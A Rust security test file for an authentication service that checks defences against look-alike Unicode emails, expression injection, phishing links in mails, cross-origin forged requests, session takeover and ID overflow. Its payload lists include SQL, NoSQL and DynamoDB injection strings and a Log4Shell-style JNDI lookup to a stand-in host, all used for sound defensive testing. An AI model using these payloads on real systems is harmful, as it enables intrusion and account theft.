//! Attacks that need the stack in hand, each by what the attacker would gain.

use std::time::Duration;

use aws_sdk_dynamodb::types::AttributeValue;
use journeys::{Embedded, Item, PASSWORD, Visitor, paths};
use serde_json::json;

use crate::rows;
use crate::scenarios::{ALL, Actor, Scenario, assert_sound};

const EMAIL_INVALID: (u16, &str) = (200, "Introduce un email válido");
const ERROR: (u16, &str) = (500, "Error interno del servidor");
/// 2^53 - 1: the largest integer that every JSON reader keeps exact.
const ID_MAX: u64 = (1 << 53) - 1;

fn said(expected: (u16, &str)) -> (u16, String) {
    (expected.0, expected.1.to_owned())
}

#[tokio::test]
async fn an_address_whose_letters_unicode_folds_to_another_s_reaches_nobody() {
    let stack = Embedded::start(&[]).await;
    let mut kiss = stack.service.visitor();
    kiss.email = format!("kiss-{}", kiss.email);
    assert_eq!(kiss.register().await.success(), true);
    for (letter, look_alike) in
        [("k", "\u{212a}"), ("i", "\u{131}"), ("i", "\u{130}"), ("s", "\u{17f}"), ("k", "\u{ff4b}"), ("e", "\u{435}")]
    {
        let mut attacker = Visitor { email: kiss.email.replacen(letter, look_alike, 1), ..kiss.elsewhere() };
        let email = attacker.email.clone();
        assert_eq!(attacker.register().await.said(), said(EMAIL_INVALID), "{email}");
        assert_eq!(attacker.login(PASSWORD).await.said(), said(EMAIL_INVALID), "{email}");
        let link = attacker.form(paths::SEND_RESET_LINK, &[("email", &email)]).await;
        assert_eq!(link.said(), said(EMAIL_INVALID), "{email}");
        assert_eq!(attacker.google(json!({})).await.status, 401, "{email}");
    }
    assert!(stack.mail.calls().is_empty());
}

#[tokio::test]
async fn a_name_that_reads_like_an_expression_is_only_a_name() {
    let stack = Embedded::start(&[]).await;
    let mut ana = stack.service.visitor().signed().await;
    let without_name = |row: Option<Item>| rows::with(&rows::with(&row.unwrap(), "name", None), "nonce", None);
    let before = without_name(rows::profile(&stack, &ana.email).await);
    for name in [
        "#generation = :next",
        ":name",
        "x, #id = :one",
        "SET #password = :x REMOVE #reset_hash",
        "attribute_not_exists(#pk)",
        "' OR '1'='1",
        "{\"$ne\":null}",
        "${jndi:ldap://evil.example}",
    ] {
        assert_eq!(ana.form(paths::USER_CONFIG, &[("name", name)]).await.success(), true, "{name}");
        assert_eq!(ana.session().await.user("name"), name);
    }
    assert_eq!(without_name(rows::profile(&stack, &ana.email).await), before);
}

#[tokio::test]
async fn no_letter_holds_anything_that_a_stranger_chose() {
    let stack = Embedded::start(&[("FRONT_END_URL", "https://app.example")]).await;
    let mut stranger = stack.service.visitor();
    let name = "<a href=\"https://evil.example\">Premio</a> https://evil.example";
    assert_eq!(stranger.register_with(&[("nombre", name)]).await.success(), true);
    stranger.reset_token().await;
    assert_eq!(stranger.elsewhere().google(json!({"name": name})).await.json()["status"], "exists");
    let mails = stack.service.mails(&stranger.email).await;
    assert_eq!(mails.len(), 2);
    for part in mails.iter().flat_map(|mail| ["subject", "text", "html"].map(|part| mail[part].as_str().unwrap())) {
        assert!(!part.contains("evil") && !part.contains("Premio"), "{part}");
        assert!(part.split("https://").skip(1).all(|address| address.starts_with("app.example")), "{part}");
    }
}

/// What a page of another origin can send without the browser asking first, with the victim's cookies.
fn forged(stack: &Embedded, path: &str, cookie: &str, content_type: &str, body: String) -> reqwest::RequestBuilder {
    let request = stack.service.request("POST", path).header("origin", "https://evil.example").header("cookie", cookie);
    request.header("content-type", content_type).body(body)
}

#[tokio::test]
async fn a_page_of_another_origin_signs_nobody_in_and_changes_nothing() {
    let stack = Embedded::start(&[]).await;
    let mut victim = stack.service.visitor().signed().await;
    let attacker = stack.service.visitor().registered().await;
    let (token, cookie) = (victim.reset_token().await, victim.cookie.clone().unwrap());
    let credential = attacker.credential(json!({})).await;
    let fields = [
        ("email", attacker.email.as_str()),
        ("password", PASSWORD),
        ("name", "Eva"),
        ("nombre", "Eva"),
        ("token", &token),
        ("credential", &credential),
        ("g_csrf_token", "x"),
    ];
    let encoded: Vec<String> = fields.iter().map(|(name, value)| format!("{name}={value}")).collect();
    let part = |(name, value): &(&str, &str)| {
        format!("--x\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    };
    let bodies = [
        ("application/x-www-form-urlencoded", encoded.join("&")),
        ("multipart/form-data; boundary=x", fields.iter().map(part).collect::<String>() + "--x--\r\n"),
        ("text/plain", json!({"credential": credential}).to_string()),
    ];
    drop((stack.table.calls(), stack.mail.calls()));
    for &path in paths::ALL {
        for (content_type, body) in &bodies {
            let answer = stack.service.send(forged(&stack, path, &cookie, content_type, body.clone())).await;
            assert_eq!((answer.status, answer.set_cookies().len()), (403, 0), "{path} {content_type}");
        }
    }
    assert!(stack.table.calls().is_empty() && stack.mail.calls().is_empty());
    assert_eq!(victim.session().await.user("name"), "Ana García");
}

#[tokio::test]
async fn a_presented_session_never_links_an_identity_to_its_account() {
    let stack = Embedded::start(&[]).await;
    // Somebody else's address, registered by the attacker before its owner comes.
    let mut attacker = stack.service.visitor().signed().await;
    let (account, cookie) = (attacker.session().await.user("id"), attacker.cookie.clone());
    let own = stack.service.visitor().email;
    let mut trojan = Visitor { email: own, cookie, ..attacker.elsewhere() };
    let login = trojan.google(json!({})).await;
    assert_eq!(login.json()["status"], "inserted");
    assert_ne!(login.user("id"), account);
    let owner = attacker.elsewhere().google(json!({})).await;
    assert_eq!((&owner.json()["status"], owner.user("id")), (&json!("exists"), account.clone()));
    assert_ne!(trojan.elsewhere().google(json!({})).await.user("id"), account);
    assert_sound(&stack).await;
}

#[tokio::test]
async fn whoever_registered_an_address_first_keeps_nothing_once_its_owner_has_reset_the_password() {
    let stack = Embedded::start(&[]).await;
    let mut attacker = stack.service.visitor().signed().await;
    let mut second = attacker.elsewhere();
    second.login(PASSWORD).await;
    let older = attacker.reset_token().await;
    let mut owner = attacker.elsewhere();
    let token = owner.reset_token().await;
    assert_eq!(owner.reset(&token, "Otra1234").await.success(), true);
    for device in [&mut attacker, &mut second] {
        assert_eq!(device.session().await.status, 401);
    }
    assert_eq!(attacker.login(PASSWORD).await.success(), false);
    for token in [older, token] {
        assert_eq!(attacker.reset(&token, PASSWORD).await.success(), false);
    }
    assert_eq!(owner.login("Otra1234").await.success(), true);
}

#[tokio::test]
async fn only_sessions_and_counts_of_failures_may_be_taken_by_age() {
    let stack = Embedded::start(&[("LOGIN_MAX_FAILURES", "5")]).await;
    let mut ana = stack.service.visitor().signed().await;
    ana.google(json!({})).await;
    ana.reset_token().await;
    ana.elsewhere().login("Otra1234").await;
    stack.advance(Duration::from_mins(100));
    assert_eq!(ana.session().await.status, 200);
    let (now, mut kinds) = (stack.now().seconds(), Vec::new());
    for row in stack.items("accounts").await {
        let sk = rows::text(&row, "sk");
        let kind = sk.split('#').next().unwrap().to_owned();
        let expires_at = rows::text(&row, "expires_at").parse::<u64>().ok();
        match kind.as_str() {
            "session" => assert!(expires_at.unwrap() > now + 100 * 60, "a session in use is due: {row:?}"),
            "failures" => assert!(expires_at.is_some(), "{row:?}"),
            _ => assert_eq!(expires_at, None, "{row:?}"),
        }
        kinds.push(kind);
    }
    kinds.sort();
    assert_eq!(kinds, ["failures", "identity", "profile", "session", "user-id"]);
    assert!(stack.items("entries").await.iter().all(|row| !row.contains_key("expires_at")));
}

#[tokio::test]
async fn the_largest_id_is_one_that_json_keeps_exact_and_nobody_gets_a_larger_one() {
    let stack = Embedded::start(&[]).await;
    let set = async |total: u64| {
        let key = [("pk", "counter"), ("sk", "user-id")].map(|(name, value)| (name, AttributeValue::S(value.into())));
        let row = key.into_iter().chain([("total", AttributeValue::N(total.to_string()))]);
        rows::put(&stack, row.map(|(name, value)| (name.to_owned(), value)).collect()).await;
    };
    set(ID_MAX - 2).await;
    for id in [ID_MAX - 1, ID_MAX] {
        let mut ana = stack.service.visitor();
        assert_eq!(ana.register().await.success(), true);
        assert_eq!(ana.login(PASSWORD).await.user("id"), id);
    }
    let mut late = stack.service.visitor();
    for total in [ID_MAX, u64::MAX] {
        set(total).await;
        for answer in [late.register().await, late.elsewhere().google(json!({})).await] {
            assert_eq!(answer.said(), said(ERROR), "{total}");
        }
    }
    assert_eq!(rows::profile(&stack, &late.email).await, None);
}

#[tokio::test]
async fn a_clock_that_is_set_back_fails_no_call() {
    let google = [
        Scenario::GoogleNew,
        Scenario::GoogleKnown,
        Scenario::GoogleLink,
        Scenario::GoogleMoved,
        Scenario::GoogleRedirect,
    ];
    // A step of a time server, and a machine that has lost its time: then credentials are from the future.
    for by in [Duration::from_secs(30), Duration::from_hours(24), Duration::from_hours(24 * 365 * 50)] {
        let stack = Embedded::start(&[]).await;
        let in_time = |scenario: &Scenario| by < Duration::from_mins(1) || !google.contains(scenario);
        // A letter that was lost waits until the clock is where it was.
        let scenarios = ALL.iter().copied().filter(|it| in_time(it) && *it != Scenario::GoogleUntold);
        let mut actors = Vec::new();
        for scenario in scenarios {
            actors.push((scenario, Actor::ready(scenario, &stack).await));
        }
        stack.set_back(by);
        for (scenario, actor) in &mut actors {
            let answer = actor.request().await;
            assert!(actor.is_success(&answer), "{scenario:?}, {by:?}: {answer:?}");
            actor.assert_done(&stack).await;
        }
        assert!(stack.log().iter().all(|line| !line.contains("panic")), "{by:?}");
    }
}

#[tokio::test]
async fn the_largest_account_that_can_be_made_is_a_hundredth_of_an_item() {
    let stack = Embedded::start(&[]).await;
    let mut ana = stack.service.visitor();
    let domain = format!("{0}.{0}.{0}", "d".repeat(50));
    ana.email = format!("{:l<64}@{domain}", ana.email.split('@').next().unwrap());
    let (name, password) = ("\u{1f600}".repeat(200), format!("A1{}", "x".repeat(1 << 20)));
    let fields = [("nombre", &*name), ("password", &password), ("confirm-password", &password)];
    assert_eq!(ana.register_with(&fields).await.success(), true);
    let sub = "s".repeat(255);
    assert_eq!(ana.google(json!({"sub": sub, "name": name})).await.json()["status"], "exists");
    let token = ana.reset_token().await;
    assert_eq!(ana.reset(&token, &password).await.success(), true);
    ana.reset_token().await;
    let row = rows::profile(&stack, &ana.email).await.unwrap();
    let size: usize = row.iter().map(|(name, value)| name.len() + format!("{value:?}").len()).sum();
    assert!(size < 4_096, "{size} bytes: {:?}", row.keys());
}
